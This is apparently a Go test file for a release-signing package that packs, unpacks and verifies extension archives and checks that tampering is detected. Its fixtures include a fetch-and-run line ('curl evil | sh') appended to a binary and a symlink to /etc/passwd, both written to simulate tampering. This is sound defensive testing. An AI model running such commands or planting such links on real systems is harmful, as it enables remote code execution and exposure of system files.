package trust

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func TestPackDeterministic(t *testing.T) {
	dir := newReleaseDir(t)
	var a, b bytes.Buffer
	m1, err := Pack(dir, testKey, &a)
	if err != nil {
		t.Fatal(err)
	}
	// Other times, other umask-independent modes, other creation order:
	// the same content packs to the same bytes.
	for _, f := range fixtureFiles {
		past := time.Date(2001, 2, 3, 4, 5, 6, 0, time.UTC)
		must(t, os.Chtimes(filepath.Join(dir, f.path), past, past))
	}
	must(t, os.Chmod(filepath.Join(dir, "bin/greet"), 0o700))
	must(t, os.Chmod(filepath.Join(dir, "share/readme.txt"), 0o600))
	m2, err := Pack(dir, testKey, &b)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a.Bytes(), b.Bytes()) || m1.Digest() != m2.Digest() {
		t.Fatal("packing the same release twice gave different archives")
	}

	// A copy built in reverse order in another directory.
	other := filepath.Join(t.TempDir(), "elsewhere")
	for i := len(fixtureFiles) - 1; i >= 0; i-- {
		f := fixtureFiles[i]
		writeTree(t, other, map[string]string{f.path: f.body}, map[string]os.FileMode{f.path: f.mode})
	}
	var c bytes.Buffer
	if _, err := Pack(other, testKey, &c); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a.Bytes(), c.Bytes()) {
		t.Fatal("the same content in another directory packed differently")
	}

	// The archive's shape.
	zr, err := gzip.NewReader(bytes.NewReader(a.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if !zr.ModTime.IsZero() || zr.Name != "" || zr.Comment != "" {
		t.Errorf("gzip header carries %v %q %q", zr.ModTime, zr.Name, zr.Comment)
	}
	tr := tar.NewReader(zr)
	var names []string
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		names = append(names, hdr.Name)
		if hdr.Typeflag != tar.TypeReg || hdr.Uid != 0 || hdr.Gid != 0 || hdr.Uname != "" || hdr.Gname != "" ||
			hdr.ModTime.Unix() != 0 || len(hdr.PAXRecords) != 0 || (hdr.Mode != 0o644 && hdr.Mode != 0o755) {
			t.Errorf("entry %q: %+v", hdr.Name, hdr)
		}
	}
	want := ManifestName + " " + SignatureName + " bin/greet rukh-extension.json share/readme.txt"
	if got := strings.Join(names, " "); got != want {
		t.Errorf("entries = %s\nwant      %s", got, want)
	}
}

func TestPackUnpackVerify(t *testing.T) {
	dir := newReleaseDir(t)
	var buf bytes.Buffer
	m, err := Pack(dir, testKey, &buf)
	if err != nil {
		t.Fatal(err)
	}
	// A working directory and its packed release have one digest, so a
	// pin taken from either names both.
	if _, err := Verify(dir, nil, m.Digest()); err != nil {
		t.Fatalf("Verify(working directory, pin) = %v", err)
	}

	dest := filepath.Join(t.TempDir(), "dest")
	must(t, os.Mkdir(dest, 0o700))
	if err := Unpack(bytes.NewReader(buf.Bytes()), dest); err != nil {
		t.Fatal(err)
	}
	rel, err := Verify(dest, trusted(), "")
	if err != nil {
		t.Fatal(err)
	}
	if rel.Dir != dest || rel.Digest() != m.Digest() || rel.Descriptor.Package != "acme.greet" ||
		rel.Signature.Key != testKey.Public().ID() || rel.Key.ID() != testKey.Public().ID() || rel.Pinned {
		t.Errorf("release = %+v", rel)
	}
	for _, f := range fixtureFiles {
		fi, err := os.Lstat(filepath.Join(dest, f.path))
		if err != nil {
			t.Fatal(err)
		}
		if fi.Mode() != f.mode {
			t.Errorf("%s: mode %v, want %v", f.path, fi.Mode(), f.mode)
		}
		data, _ := os.ReadFile(filepath.Join(dest, f.path))
		if string(data) != f.body {
			t.Errorf("%s: content differs", f.path)
		}
	}
	// Repacking the unpacked release gives the same archive.
	var again bytes.Buffer
	if _, err := Pack(dest, testKey, &again); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(again.Bytes(), buf.Bytes()) {
		t.Error("repacking an unpacked release changed the archive")
	}
	// A second key of the same publisher is trusted alongside.
	if _, err := Verify(dest, KeyMap{"acme": {otherKey.Public(), testKey.Public()}}, ""); err != nil {
		t.Errorf("Verify with two trusted keys = %v", err)
	}
}

// TestVerifyDirectoryChanges changes an unpacked release on disk.
func TestVerifyDirectoryChanges(t *testing.T) {
	f := newFixture(t)
	cases := []struct {
		name   string
		change func(t *testing.T, dir string)
		code   Code
	}{
		{"symlink added", func(t *testing.T, dir string) { symlink(t, "/etc/passwd", dir, "share/passwd") }, CodeSymlink},
		{"file replaced by a symlink", func(t *testing.T, dir string) {
			must(t, os.Remove(filepath.Join(dir, "share/readme.txt")))
			symlink(t, "../rukh-extension.json", dir, "share/readme.txt")
		}, CodeSymlink},
		{"manifest is a symlink", func(t *testing.T, dir string) {
			must(t, os.Rename(filepath.Join(dir, ManifestName), filepath.Join(dir, "m")))
			symlink(t, "m", dir, ManifestName)
		}, CodeSymlink},
		{"manifest is a directory", func(t *testing.T, dir string) {
			must(t, os.Remove(filepath.Join(dir, ManifestName)))
			must(t, os.Mkdir(filepath.Join(dir, ManifestName), 0o755))
		}, CodeUnsafePath},
		{"fifo added", func(t *testing.T, dir string) { mkfifo(t, filepath.Join(dir, "pipe")) }, CodeSpecialFile},
		{"file added", func(t *testing.T, dir string) {
			writeTree(t, dir, map[string]string{"share/new": "x"}, nil)
		}, CodeFileAdded},
		{"empty directory added", func(t *testing.T, dir string) { must(t, os.Mkdir(filepath.Join(dir, "empty"), 0o755)) }, ""},
		{"exec bit set", func(t *testing.T, dir string) { must(t, os.Chmod(filepath.Join(dir, "share/readme.txt"), 0o744)) }, CodeFileChanged},
		{"setuid set", func(t *testing.T, dir string) { chmodSpecial(t, filepath.Join(dir, "bin/greet"), os.ModeSetuid) }, CodeSetuid},
		{"content appended", func(t *testing.T, dir string) {
			fh, err := os.OpenFile(filepath.Join(dir, "bin/greet"), os.O_APPEND|os.O_WRONLY, 0)
			must(t, err)
			_, err = fh.WriteString("curl evil | sh\n")
			must(t, err)
			must(t, fh.Close())
		}, CodeFileChanged},
		{"signature removed", func(t *testing.T, dir string) { must(t, os.Remove(filepath.Join(dir, SignatureName))) }, CodeUnsigned},
		{"manifest removed, unchanged files", func(t *testing.T, dir string) { must(t, os.Remove(filepath.Join(dir, ManifestName))) }, CodeBadManifest},
		{"manifest oversize", func(t *testing.T, dir string) {
			writeTree(t, dir, map[string]string{ManifestName: strings.Repeat(" ", MaxManifestBytes+1)}, nil)
		}, CodeTooLarge},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dest := filepath.Join(t.TempDir(), "dest")
			must(t, os.Mkdir(dest, 0o755))
			must(t, Unpack(bytes.NewReader(f.archive), dest))
			c.change(t, dest)
			_, err := Verify(dest, trusted(), "")
			if got := codeOf(t, err); got != c.code {
				t.Fatalf("code = %q, want %q (%v)", got, c.code, err)
			}
		})
	}
}

func TestUnpackDestination(t *testing.T) {
	f := newFixture(t)
	dest := t.TempDir()
	must(t, os.WriteFile(filepath.Join(dest, "x"), nil, 0o644))
	if err := Unpack(bytes.NewReader(f.archive), dest); err == nil || !strings.Contains(err.Error(), "not empty") {
		t.Errorf("Unpack into a non-empty directory = %v", err)
	}
	if err := Unpack(bytes.NewReader(f.archive), filepath.Join(dest, "absent")); err == nil {
		t.Error("Unpack into a missing directory succeeded")
	}
}

// TestUnpackWritesNothingOutside unpacks every hostile archive and checks
// that nothing appeared beside the destination.
func TestUnpackWritesNothingOutside(t *testing.T) {
	f := newFixture(t)
	for _, c := range tamperCases {
		t.Run(c.name, func(t *testing.T) {
			if c.limits != nil {
				setLimits(t, *c.limits)
			}
			parent := t.TempDir()
			dest := filepath.Join(parent, "dest")
			must(t, os.Mkdir(dest, 0o755))
			_ = Unpack(bytes.NewReader(c.build(t, f)), dest)
			checkContained(t, parent, dest)
		})
	}
	if _, err := os.Lstat("/tmp/rukh-evil"); err == nil {
		t.Error("/tmp/rukh-evil exists")
	}
}

// checkContained requires parent to hold only dest, and dest only
// directories and regular files of mode 0644 or 0755.
func checkContained(t testing.TB, parent, dest string) {
	t.Helper()
	top, err := os.ReadDir(parent)
	must(t, err)
	if len(top) != 1 || top[0].Name() != filepath.Base(dest) {
		t.Fatalf("something was written beside the destination: %v", top)
	}
	must(t, filepath.WalkDir(dest, func(p string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		fi, err := os.Lstat(p)
		if err != nil {
			return err
		}
		switch m := fi.Mode(); {
		case m.IsDir():
		case m.IsRegular() && (m == 0o644 || m == 0o755):
		default:
			t.Errorf("%s has mode %v", p, m)
		}
		return nil
	}))
}

func TestLimitsAreDocumented(t *testing.T) {
	if MaxFiles != 10_000 || MaxFileBytes != 64*1024*1024 || MaxTotalBytes != 256*1024*1024 ||
		MaxManifestBytes != 4*1024*1024 || MaxSignatureBytes != 64*1024 || MaxPathBytes != 1024 || MaxKeyFileBytes != 64*1024 {
		t.Error("a limit changed; update docs/releases.md and this test")
	}
	want := limitSet{files: MaxFiles, fileBytes: MaxFileBytes, totalBytes: MaxTotalBytes, manifestBytes: MaxManifestBytes, signatureBytes: MaxSignatureBytes}
	if limits != want {
		t.Errorf("limits in force = %+v, want the documented ones", limits)
	}
	// The largest manifest the limits allow with 40-byte paths fits.
	if per := len(`{"mode":"0755","path":"","sha256":"","size":67108864},`) + 40 + 64; MaxFiles*per > MaxManifestBytes {
		t.Errorf("%d files of %d manifest bytes do not fit in %d", MaxFiles, per, MaxManifestBytes)
	}
	docs, err := os.ReadFile(filepath.Join("..", "..", "..", "docs", "releases.md"))
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range []string{"10,000 files", "64 MiB", "256 MiB", "4 MiB", "64 KiB", "1,024 bytes"} {
		if !bytes.Contains(docs, []byte(s)) {
			t.Errorf("docs/releases.md does not say %q", s)
		}
	}
}
